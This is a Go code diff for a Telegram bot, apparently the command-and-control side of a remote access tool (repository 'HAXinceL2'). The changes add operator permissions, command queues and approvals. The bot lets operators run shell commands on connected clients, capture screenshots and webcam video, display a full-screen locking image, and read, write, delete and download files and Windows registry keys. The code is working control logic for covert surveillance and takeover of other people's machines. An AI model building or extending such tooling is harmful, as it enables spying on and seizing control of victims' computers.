@@ -1,12 +1,14 @@
 package telegram
 
 import (
-	"encoding/json"
+	"errors"
 	"fmt"
 	"log"
+	"net/url"
+	"sort"
 	"strconv"
 	"strings"
-	"time"
+	"sync"
 
 	"github.com/E2klime/HAXinceL2/internal"
 	"github.com/E2klime/HAXinceL2/internal/protocol"
@@ -16,10 +18,18 @@ import (
 type Bot struct {
 	api      *tgbotapi.BotAPI
 	server   *internal.Server
-	adminIDs []int64
+	sessions *sessionStore
+
+	jobs      map[string]*liveJob
+	jobsMutex sync.Mutex
+
+	approvalMessages map[string][]approvalMessage
+	approvalsMutex   sync.Mutex
 }
 
-func NewBot(token string, srv *internal.Server, adminIDs []int64) (*Bot, error) {
+// NewBot starts a bot for srv. Telegram users act as the operator
+// TelegramOperatorID(user ID) and may do what srv's policy grants it.
+func NewBot(token string, srv *internal.Server) (*Bot, error) {
 	api, err := tgbotapi.NewBotAPI(token)
 	if err != nil {
 		return nil, fmt.Errorf("failed to create bot: %w", err)
@@ -27,11 +37,19 @@ func NewBot(token string, srv *internal.Server, adminIDs []int64) (*Bot, error)
 
 	log.Printf("Authorized on account %s", api.Self.UserName)
 
-	return &Bot{
+	b := &Bot{
 		api:      api,
 		server:   srv,
-		adminIDs: adminIDs,
-	}, nil
+		sessions: newSessionStore(),
+		jobs:     make(map[string]*liveJob),
+
+		approvalMessages: make(map[string][]approvalMessage),
+	}
+
+	srv.OnQueueUpdate(b.onQueueUpdate)
+	srv.OnApprovalUpdate(b.onApprovalUpdate)
+
+	return b, nil
 }
 
 func (b *Bot) Start() {
@@ -40,6 +58,8 @@ func (b *Bot) Start() {
 
 	updates := b.api.GetUpdatesChan(u)
 
+	go b.sessions.runSweeper()
+
 	for update := range updates {
 		if update.Message != nil {
 			b.handleMessage(update.Message)
@@ -49,35 +69,159 @@ func (b *Bot) Start() {
 	}
 }
 
-func (b *Bot) isAdmin(userID int64) bool {
-	for _, id := range b.adminIDs {
-		if id == userID {
-			return true
-		}
+// TelegramOperatorID is the policy operator ID of a Telegram user.
+func TelegramOperatorID(userID int64) string {
+	return telegramOriginPrefix + strconv.FormatInt(userID, 10)
+}
+
+func (b *Bot) operator(user *tgbotapi.User) (*internal.Operator, bool) {
+	if user == nil {
+		return nil, false
 	}
-	return false
+	op, err := b.server.Operator(TelegramOperatorID(user.ID))
+	return op, err == nil
+}
+
+func (b *Bot) selectedClient(key sessionKey) (string, bool) {
+	return b.sessions.selectedClient(key)
 }
 
 func (b *Bot) handleMessage(message *tgbotapi.Message) {
-	if !b.isAdmin(message.From.ID) {
+	op, ok := b.operator(message.From)
+	if !ok {
 		msg := tgbotapi.NewMessage(message.Chat.ID, "❌ У вас нет доступа к этому боту")
 		b.api.Send(msg)
 		return
 	}
 
+	if message.Document != nil {
+		b.handleDocumentUpload(op, message)
+		return
+	}
+
+	if spec, ok := clientCommands[message.Command()]; ok {
+		b.handleClientCommand(op, message, spec)
+		return
+	}
+
 	switch message.Command() {
 	case "start":
 		b.sendWelcome(message.Chat.ID)
 	case "clients":
-		b.listClients(message.Chat.ID)
+		b.listClients(op, message.Chat.ID)
+	case "file_write":
+		b.handleFileWriteCommand(message)
+	case "file_download":
+		b.handleFileDownloadCommand(op, message)
+	case "transfers":
+		b.handleTransferList(op, message)
+	case "transfer_cancel":
+		b.handleTransferCancel(op, message)
+	case "jobs":
+		b.handleJobList(op, message)
+	case "job_cancel":
+		b.handleJobCancel(op, message)
+	case "forget":
+		b.handleForget(op, message)
+	case "queue":
+		b.handleQueueList(op, message)
+	case "queue_cancel":
+		b.handleQueueCancel(op, message)
+	case "audit":
+		b.handleAudit(op, message)
+	case "approvals":
+		b.handleApprovalList(op, message)
+	case "tokens":
+		b.listTokens(op, message.Chat.ID)
+	case "token_new":
+		b.handleTokenNew(op, message)
+	case "token_revoke":
+		b.handleTokenRevoke(op, message)
+	case "cancel":
+		if b.sessions.cancel(messageSession(message)) {
+			b.sendText(message.Chat.ID, "🚫 Действие отменено")
+		} else {
+			b.sendText(message.Chat.ID, "Нечего отменять")
+		}
 	default:
-		msg := tgbotapi.NewMessage(message.Chat.ID, "Используйте /start для начала работы")
+		// Unknown "commands" may be answers to a prompt, e.g. /usr/bin/id.
+		b.handlePendingInput(op, message)
+	}
+}
+
+// handlePendingInput routes a plain text message to the prompt its sender is
+// currently answering, if any.
+func (b *Bot) handlePendingInput(op *internal.Operator, message *tgbotapi.Message) {
+	chatID := message.Chat.ID
+	text := strings.TrimSpace(message.Text)
+
+	key := messageSession(message)
+	action, clientID, expired := b.sessions.take(key)
+	if expired {
+		b.sendText(chatID, "⌛ Время ожидания ввода истекло. Выберите действие заново.")
+		return
+	}
+
+	switch action {
+	case actionCommand:
+		if text == "" {
+			b.sessions.expect(key, actionCommand, clientID)
+			b.sendText(chatID, "Введите команду или /cancel")
+			return
+		}
+
+		if err := b.ExecuteCommand(op, chatID, clientID, text, nil); err != nil {
+			b.reportDispatchError(chatID, err)
+		}
+
+	case actionShowImage:
+		imageURL, duration, err := parseShowImageInput(text)
+		if err != nil {
+			b.sessions.expect(key, actionShowImage, clientID)
+			b.sendText(chatID, fmt.Sprintf("❌ %v\nВведите URL и, при желании, длительность в секундах, или /cancel", err))
+			return
+		}
+
+		if err := b.ShowImage(op, chatID, clientID, imageURL, duration); err != nil {
+			b.reportDispatchError(chatID, err)
+			return
+		}
+		b.sendText(chatID, fmt.Sprintf("🖼️ Изображение отправлено на %s", clientID))
+
+	default:
+		msg := tgbotapi.NewMessage(chatID, "Используйте /start для начала работы")
 		b.api.Send(msg)
 	}
 }
 
+func parseShowImageInput(text string) (string, int, error) {
+	args, err := splitArgs(text)
+	if err != nil {
+		return "", 0, err
+	}
+	if len(args) == 0 || len(args) > 2 {
+		return "", 0, fmt.Errorf("ожидается: <url> [секунды]")
+	}
+
+	u, err := url.Parse(args[0])
+	if err != nil || (u.Scheme != "http" && u.Scheme != "https") || u.Host == "" {
+		return "", 0, fmt.Errorf("некорректный URL: %s", args[0])
+	}
+
+	duration := 0
+	if len(args) == 2 {
+		duration, err = strconv.Atoi(args[1])
+		if err != nil || duration < 0 {
+			return "", 0, fmt.Errorf("некорректная длительность: %s", args[1])
+		}
+	}
+
+	return u.String(), duration, nil
+}
+
 func (b *Bot) handleCallback(callback *tgbotapi.CallbackQuery) {
-	if !b.isAdmin(callback.From.ID) {
+	op, ok := b.operator(callback.From)
+	if !ok {
 		return
 	}
 
@@ -88,24 +232,33 @@ func (b *Bot) handleCallback(callback *tgbotapi.CallbackQuery) {
 
 	action := parts[0]
 	clientID := parts[1]
+	key := callbackSession(callback)
 
 	switch action {
 	case "select":
-		b.showClientMenu(callback.Message.Chat.ID, clientID)
+		b.showClientMenu(op, key, clientID)
 	case "cmd":
-		b.sendCommandPrompt(callback.Message.Chat.ID, clientID)
+		b.sendCommandPrompt(key, clientID)
 	case "screenshot":
-		b.requestScreenshot(callback.Message.Chat.ID, clientID)
+		b.requestScreenshot(op, callback.Message.Chat.ID, clientID)
 	case "webcam":
-		b.requestWebcam(callback.Message.Chat.ID, clientID)
+		b.requestWebcam(op, callback.Message.Chat.ID, clientID)
 	case "showimg":
-		b.sendShowImagePrompt(callback.Message.Chat.ID, clientID)
+		b.sendShowImagePrompt(key, clientID)
 	case "files":
+		b.sessions.selectClient(key, clientID)
 		b.showFilesMenu(callback.Message.Chat.ID, clientID)
 	case "registry":
+		b.sessions.selectClient(key, clientID)
 		b.showRegistryMenu(callback.Message.Chat.ID, clientID)
+	case "stop":
+		b.stopJob(op, callback.Message.Chat.ID, clientID)
 	case "back":
-		b.listClients(callback.Message.Chat.ID)
+		b.listClients(op, callback.Message.Chat.ID)
+	case "approve", "reject":
+		// Answers the callback itself, with an alert on failure.
+		b.handleApprovalCallback(op, callback, parts[1], action == "approve")
+		return
 	}
 
 	b.api.Request(tgbotapi.NewCallback(callback.ID, ""))
@@ -115,7 +268,19 @@ func (b *Bot) sendWelcome(chatID int64) {
 	text := `👋 Добро пожаловать в систему мониторинга!
 
 Доступные команды:
-/clients - Список подключенных клиентов
+/clients - Список клиентов (онлайн и офлайн)
+/forget <client_id> - Удалить офлайн-клиента из списка
+/queue [client_id] - Очередь команд для офлайн-клиентов
+/queue_cancel <id> - Отменить команду в очереди
+/transfers [client_id] - Передачи файлов
+/transfer_cancel <id> - Отменить передачу
+/jobs [client_id] - Задачи, выполняемые клиентом
+/job_cancel <id> [client_id] - Остановить задачу клиента
+/tokens - Токены регистрации клиентов
+/token_new [client_id] - Выпустить токен
+/token_revoke <client_id> - Отозвать токен
+/audit [client_id] - Журнал действий операторов
+/approvals [client_id] - Операции, ожидающие подтверждения
 
 Выберите клиента для управления.`
 
@@ -123,111 +288,196 @@ func (b *Bot) sendWelcome(chatID int64) {
 	b.api.Send(msg)
 }
 
-func (b *Bot) listClients(chatID int64) {
-	clients := b.server.GetClients()
+func (b *Bot) listClients(op *internal.Operator, chatID int64) {
+	records, err := op.Inventory()
+	if err != nil {
+		b.sendText(chatID, fmt.Sprintf("❌ Не удалось получить список клиентов: %v", err))
+		return
+	}
 
-	if len(clients) == 0 {
-		msg := tgbotapi.NewMessage(chatID, "❌ Нет подключенных клиентов")
+	if len(records) == 0 {
+		msg := tgbotapi.NewMessage(chatID, "❌ Нет известных клиентов")
 		b.api.Send(msg)
 		return
 	}
 
-	text := "📋 Подключенные клиенты:\n\n"
+	sort.SliceStable(records, func(i, j int) bool {
+		return records[i].Online && !records[j].Online
+	})
+
+	online := 0
+	for _, rec := range records {
+		if rec.Online {
+			online++
+		}
+	}
+
+	text := fmt.Sprintf("📋 Клиенты: %d онлайн, %d офлайн\n\n", online, len(records)-online)
 	var keyboard [][]tgbotapi.InlineKeyboardButton
 
-	for _, client := range clients {
-		text += fmt.Sprintf("🖥️ *%s* (%s@%s)\n", client.ID, client.Username, client.Hostname)
-		text += fmt.Sprintf("   OS: %s | Last seen: %s\n\n", client.OS, client.LastSeen.Format("15:04:05"))
+	for _, rec := range records {
+		if rec.Online {
+			text += fmt.Sprintf("🟢 *%s* (%s@%s)\n", rec.ID, rec.Username, rec.Hostname)
+			text += fmt.Sprintf("   OS: %s | Last seen: %s\n\n", rec.OS, rec.LastSeen.Format("15:04:05"))
+
+			button := tgbotapi.NewInlineKeyboardButtonData(
+				fmt.Sprintf("🖥️ %s", rec.Hostname),
+				fmt.Sprintf("select:%s", rec.ID),
+			)
+			keyboard = append(keyboard, []tgbotapi.InlineKeyboardButton{button})
+			continue
+		}
+
+		text += fmt.Sprintf("⚫ *%s* (%s@%s)\n", rec.ID, rec.Username, rec.Hostname)
+		text += fmt.Sprintf("   OS: %s | Offline since: %s\n\n", rec.OS, rec.LastSeen.Format("2006-01-02 15:04"))
 
 		button := tgbotapi.NewInlineKeyboardButtonData(
-			fmt.Sprintf("🖥️ %s", client.Hostname),
-			fmt.Sprintf("select:%s", client.ID),
+			fmt.Sprintf("⚫ %s", rec.Hostname),
+			fmt.Sprintf("select:%s", rec.ID),
 		)
 		keyboard = append(keyboard, []tgbotapi.InlineKeyboardButton{button})
 	}
 
 	msg := tgbotapi.NewMessage(chatID, text)
 	msg.ParseMode = "Markdown"
-	msg.ReplyMarkup = tgbotapi.NewInlineKeyboardMarkup(keyboard...)
+	if len(keyboard) > 0 {
+		msg.ReplyMarkup = tgbotapi.NewInlineKeyboardMarkup(keyboard...)
+	}
 	b.api.Send(msg)
 }
 
-func (b *Bot) showClientMenu(chatID int64, clientID string) {
-	client, err := b.server.GetClient(clientID)
+func (b *Bot) handleForget(op *internal.Operator, message *tgbotapi.Message) {
+	args, err := splitArgs(message.CommandArguments())
+	if err != nil || len(args) != 1 {
+		b.sendText(message.Chat.ID, "Использование: /forget <client_id>")
+		return
+	}
+
+	if err := op.ForgetClient(args[0]); err != nil {
+		b.sendText(message.Chat.ID, fmt.Sprintf("❌ %v", err))
+		return
+	}
+
+	b.sendText(message.Chat.ID, fmt.Sprintf("🗑️ Клиент %s удалён из списка", args[0]))
+}
+
+func (b *Bot) showClientMenu(op *internal.Operator, key sessionKey, clientID string) {
+	chatID := key.chatID
+	rec, err := op.ClientRecord(clientID)
+	if errors.Is(err, internal.ErrForbidden) {
+		b.sendText(chatID, fmt.Sprintf("❌ Нет доступа к клиенту %s", clientID))
+		return
+	}
 	if err != nil {
 		msg := tgbotapi.NewMessage(chatID, fmt.Sprintf("❌ Клиент не найден: %s", clientID))
 		b.api.Send(msg)
 		return
 	}
 
+	b.sessions.selectClient(key, clientID)
+
+	status := "⚫ Офлайн — команды будут поставлены в очередь"
+	if client, err := op.GetClient(clientID); err == nil {
+		status = fmt.Sprintf("🟢 Connected: %s (reconnects: %d)",
+			client.ConnectedAt.Format("2006-01-02 15:04:05"), client.Reconnects)
+	}
+
+	agent := "неизвестно"
+	if rec.ProtocolVersion != 0 {
+		agent = fmt.Sprintf("%s (protocol %d)", rec.AgentVersion, rec.ProtocolVersion)
+	}
+
 	text := fmt.Sprintf(`🖥️ *Клиент: %s*
 
 👤 Пользователь: %s
 💻 Hostname: %s
 🖥️ OS: %s
+🏷️ Agent: %s
 ⏰ Last seen: %s
+%s
+🆕 First seen: %s
 
 Выберите действие:`,
-		client.ID,
-		client.Username,
-		client.Hostname,
-		client.OS,
-		client.LastSeen.Format("15:04:05"),
+		rec.ID,
+		rec.Username,
+		rec.Hostname,
+		rec.OS,
+		agent,
+		rec.LastSeen.Format("2006-01-02 15:04:05"),
+		status,
+		rec.FirstSeen.Format("2006-01-02 15:04:05"),
 	)
 
-	keyboard := tgbotapi.NewInlineKeyboardMarkup(
-		tgbotapi.NewInlineKeyboardRow(
+	msg := tgbotapi.NewMessage(chatID, text)
+	msg.ParseMode = "Markdown"
+	msg.ReplyMarkup = clientMenuKeyboard(rec, op)
+	b.api.Send(msg)
+}
+
+// clientMenuKeyboard offers only the actions the client advertised it can
+// serve and op may perform.
+func clientMenuKeyboard(rec *internal.ClientRecord, op *internal.Operator) tgbotapi.InlineKeyboardMarkup {
+	clientID := rec.ID
+	offers := func(msgType protocol.MessageType) bool {
+		return rec.Supports(msgType) && op.Can(internal.OperationPermission(msgType), clientID)
+	}
+	var rows [][]tgbotapi.InlineKeyboardButton
+
+	if offers(protocol.TypeCommand) {
+		rows = append(rows, tgbotapi.NewInlineKeyboardRow(
 			tgbotapi.NewInlineKeyboardButtonData("💻 Команда", fmt.Sprintf("cmd:%s", clientID)),
-		),
-		tgbotapi.NewInlineKeyboardRow(
+		))
+	}
+	if offers(protocol.TypeScreenshot) {
+		rows = append(rows, tgbotapi.NewInlineKeyboardRow(
 			tgbotapi.NewInlineKeyboardButtonData("📸 Скриншот", fmt.Sprintf("screenshot:%s", clientID)),
-		),
-		tgbotapi.NewInlineKeyboardRow(
+		))
+	}
+	if offers(protocol.TypeWebcam) {
+		rows = append(rows, tgbotapi.NewInlineKeyboardRow(
 			tgbotapi.NewInlineKeyboardButtonData("📹 Веб-камера", fmt.Sprintf("webcam:%s", clientID)),
-		),
-		tgbotapi.NewInlineKeyboardRow(
+		))
+	}
+	if offers(protocol.TypeShowImage) {
+		rows = append(rows, tgbotapi.NewInlineKeyboardRow(
 			tgbotapi.NewInlineKeyboardButtonData("🖼️ Показать изображение", fmt.Sprintf("showimg:%s", clientID)),
-		),
-		tgbotapi.NewInlineKeyboardRow(
-			tgbotapi.NewInlineKeyboardButtonData("📁 Файлы", fmt.Sprintf("files:%s", clientID)),
-			tgbotapi.NewInlineKeyboardButtonData("🗂️ Реестр", fmt.Sprintf("registry:%s", clientID)),
-		),
-		tgbotapi.NewInlineKeyboardRow(
-			tgbotapi.NewInlineKeyboardButtonData("⬅️ Назад", "back:"),
-		),
-	)
+		))
+	}
 
-	msg := tgbotapi.NewMessage(chatID, text)
-	msg.ParseMode = "Markdown"
-	msg.ReplyMarkup = keyboard
-	b.api.Send(msg)
+	var storage []tgbotapi.InlineKeyboardButton
+	if offers(protocol.TypeFileList) || (rec.Supports(protocol.TypeTransferStart) && op.Can(internal.OperationPermission(protocol.TypeFileDownload), clientID)) {
+		storage = append(storage, tgbotapi.NewInlineKeyboardButtonData("📁 Файлы", fmt.Sprintf("files:%s", clientID)))
+	}
+	if offers(protocol.TypeRegList) {
+		storage = append(storage, tgbotapi.NewInlineKeyboardButtonData("🗂️ Реестр", fmt.Sprintf("registry:%s", clientID)))
+	}
+	if len(storage) > 0 {
+		rows = append(rows, storage)
+	}
+
+	rows = append(rows, tgbotapi.NewInlineKeyboardRow(
+		tgbotapi.NewInlineKeyboardButtonData("⬅️ Назад", "back:"),
+	))
+	return tgbotapi.NewInlineKeyboardMarkup(rows...)
 }
 
-func (b *Bot) sendCommandPrompt(chatID int64, clientID string) {
-	text := fmt.Sprintf("💻 Введите команду для выполнения на клиенте *%s*\n\nНапример: whoami или ipconfig /all\n\n_Команда будет выполнена через shell._", clientID)
+func (b *Bot) sendCommandPrompt(key sessionKey, clientID string) {
+	chatID := key.chatID
+	b.sessions.expect(key, actionCommand, clientID)
+
+	text := fmt.Sprintf("💻 Введите команду для выполнения на клиенте *%s*\n\nНапример: whoami или ipconfig /all\n\n_Команда будет выполнена через shell._ Отмена: /cancel", clientID)
 
 	msg := tgbotapi.NewMessage(chatID, text)
 	msg.ParseMode = "Markdown"
 	b.api.Send(msg)
 }
 
-func (b *Bot) requestScreenshot(chatID int64, clientID string) {
-	payload := protocol.ScreenshotPayload{
-		Quality: 85,
-	}
-
-	payloadBytes, _ := json.Marshal(payload)
-
-	msg := &protocol.Message{
-		Type:      protocol.TypeScreenshot,
-		Payload:   payloadBytes,
-		Timestamp: time.Now().Unix(),
-	}
+func (b *Bot) requestScreenshot(op *internal.Operator, chatID int64, clientID string) {
+	msg := protocol.NewScreenshot(protocol.ScreenshotPayload{Quality: 85})
 
-	err := b.server.SendCommand(clientID, msg)
+	err := b.dispatch(op, chatID, clientID, msg)
 	if err != nil {
-		reply := tgbotapi.NewMessage(chatID, fmt.Sprintf("❌ Ошибка отправки команды: %v", err))
-		b.api.Send(reply)
+		b.reportDispatchError(chatID, err)
 		return
 	}
 
@@ -235,23 +485,12 @@ func (b *Bot) requestScreenshot(chatID int64, clientID string) {
 	b.api.Send(reply)
 }
 
-func (b *Bot) requestWebcam(chatID int64, clientID string) {
-	payload := protocol.WebcamPayload{
-		Duration: 30,
-	}
-
-	payloadBytes, _ := json.Marshal(payload)
-
-	msg := &protocol.Message{
-		Type:      protocol.TypeWebcam,
-		Payload:   payloadBytes,
-		Timestamp: time.Now().Unix(),
-	}
+func (b *Bot) requestWebcam(op *internal.Operator, chatID int64, clientID string) {
+	msg := protocol.NewWebcam(protocol.WebcamPayload{Duration: 30})
 
-	err := b.server.SendCommand(clientID, msg)
+	err := b.dispatch(op, chatID, clientID, msg)
 	if err != nil {
-		reply := tgbotapi.NewMessage(chatID, fmt.Sprintf("❌ Ошибка отправки команды: %v", err))
-		b.api.Send(reply)
+		b.reportDispatchError(chatID, err)
 		return
 	}
 
@@ -259,46 +498,46 @@ func (b *Bot) requestWebcam(chatID int64, clientID string) {
 	b.api.Send(reply)
 }
 
-func (b *Bot) sendShowImagePrompt(chatID int64, clientID string) {
-	text := fmt.Sprintf("🖼️ Введите URL изображения для показа на клиенте *%s*\n\nНапример: https://example.com/warning.png\n\n_Изображение будет показано на весь экран с блокировкой._", clientID)
+func (b *Bot) sendShowImagePrompt(key sessionKey, clientID string) {
+	chatID := key.chatID
+	b.sessions.expect(key, actionShowImage, clientID)
+
+	text := fmt.Sprintf("🖼️ Введите URL изображения для показа на клиенте *%s*\n\nНапример: https://example.com/warning.png 30\n\n_Изображение будет показано на весь экран с блокировкой._ Отмена: /cancel", clientID)
 
 	msg := tgbotapi.NewMessage(chatID, text)
 	msg.ParseMode = "Markdown"
 	b.api.Send(msg)
 }
 
-func (b *Bot) ExecuteCommand(clientID, command string, args []string) error {
-	payload := protocol.CommandPayload{
-		Command: command,
-		Args:    args,
+// ExecuteCommand runs a shell command on the client. Online clients stream
+// their output into a live-updated message; for offline ones, or while
+// commands need a second operator's approval, the command goes through
+// dispatch and its result is delivered once it completes.
+func (b *Bot) ExecuteCommand(op *internal.Operator, chatID int64, clientID, command string, args []string) error {
+	if len(args) > 0 {
+		command += " " + strings.Join(args, " ")
+		args = nil
 	}
 
-	payloadBytes, _ := json.Marshal(payload)
-
-	msg := &protocol.Message{
-		Type:      protocol.TypeCommand,
-		Payload:   payloadBytes,
-		Timestamp: time.Now().Unix(),
+	if _, err := op.GetClient(clientID); err == nil && !b.server.RequiresApproval(protocol.TypeCommand) {
+		return b.runStreamingCommand(op, chatID, clientID, command)
 	}
 
-	return b.server.SendCommand(clientID, msg)
+	msg := protocol.NewCommand(protocol.CommandPayload{
+		Command: command,
+		Args:    args,
+	})
+
+	return b.dispatch(op, chatID, clientID, msg)
 }
 
-func (b *Bot) ShowImage(clientID, imageURL string, duration int) error {
-	payload := protocol.ShowImagePayload{
+func (b *Bot) ShowImage(op *internal.Operator, chatID int64, clientID, imageURL string, duration int) error {
+	msg := protocol.NewShowImage(protocol.ShowImagePayload{
 		ImageURL: imageURL,
 		Duration: duration,
-	}
-
-	payloadBytes, _ := json.Marshal(payload)
-
-	msg := &protocol.Message{
-		Type:      protocol.TypeShowImage,
-		Payload:   payloadBytes,
-		Timestamp: time.Now().Unix(),
-	}
+	})
 
-	return b.server.SendCommand(clientID, msg)
+	return b.dispatch(op, chatID, clientID, msg)
 }
 
 func ParseAdminIDs(idsStr string) ([]int64, error) {
@@ -322,21 +561,22 @@ func ParseAdminIDs(idsStr string) ([]int64, error) {
 }
 
 func (b *Bot) showFilesMenu(chatID int64, clientID string) {
-	text := fmt.Sprintf(`📁 *Управление файлами: %s*
-
-Доступные операции:
-- Чтение файла
-- Запись файла
-- Удаление файла
-- Список файлов в директории
-- Скачивание файла
-
-Введите команду в формате:
-/file_read <path>
-/file_write <path> <base64_content>
-/file_delete <path>
-/file_list <path>
-/file_download <path>`, clientID)
+	text := fmt.Sprintf("📁 *Управление файлами: %s*\n\n"+
+		"Доступные операции:\n"+
+		"- Чтение файла\n"+
+		"- Запись файла\n"+
+		"- Удаление файла\n"+
+		"- Список файлов в директории\n"+
+		"- Скачивание файла\n\n"+
+		"Клиент выбран. Введите команду в формате:\n"+
+		"`/file_read <path>`\n"+
+		"`/file_delete <path>`\n"+
+		"`/file_list <path>`\n"+
+		"`/file_download <path>`\n\n"+
+		"Для записи отправьте файл документом с подписью:\n"+
+		"`/file_write <path>`\n\n"+
+		"Скачивание и запись идут по частям и продолжаются после переподключения: `/transfers`\n\n"+
+		"Пути с пробелами заключайте в кавычки: `\"C:\\Program Files\"`", clientID)
 
 	msg := tgbotapi.NewMessage(chatID, text)
 	msg.ParseMode = "Markdown"
@@ -352,23 +592,21 @@ func (b *Bot) showFilesMenu(chatID int64, clientID string) {
 }
 
 func (b *Bot) showRegistryMenu(chatID int64, clientID string) {
-	text := fmt.Sprintf(`🗂️ *Управление реестром Windows: %s*
-
-Доступные операции:
-- Чтение значения реестра
-- Запись значения в реестр
-- Удаление ключа/значения
-- Список подключей/значений
-
-Введите команду в формате:
-/reg_read <key> <value>
-/reg_write <key> <value> <data> <type>
-/reg_delete <key> [value]
-/reg_list <key>
-
-Пример:
-/reg_read HKLM\Software\Microsoft Version
-/reg_write HKCU\Software\Test MyValue 123 dword`, clientID)
+	text := fmt.Sprintf("🗂️ *Управление реестром Windows: %s*\n\n"+
+		"Доступные операции:\n"+
+		"- Чтение значения реестра\n"+
+		"- Запись значения в реестр\n"+
+		"- Удаление ключа/значения\n"+
+		"- Список подключей/значений\n\n"+
+		"Клиент выбран. Введите команду в формате:\n"+
+		"`/reg_read <key> <value>`\n"+
+		"`/reg_write <key> <value> <data> <type>`\n"+
+		"`/reg_delete <key> [value]`\n"+
+		"`/reg_list <key>`\n\n"+
+		"Пример:\n"+
+		"`/reg_read HKLM\\Software\\Microsoft Version`\n"+
+		"`/reg_write HKCU\\Software\\Test MyValue 123 dword`\n"+
+		"`/reg_read \"HKCU\\Software\\My App\" \"Install Dir\"`", clientID)
 
 	msg := tgbotapi.NewMessage(chatID, text)
 	msg.ParseMode = "Markdown"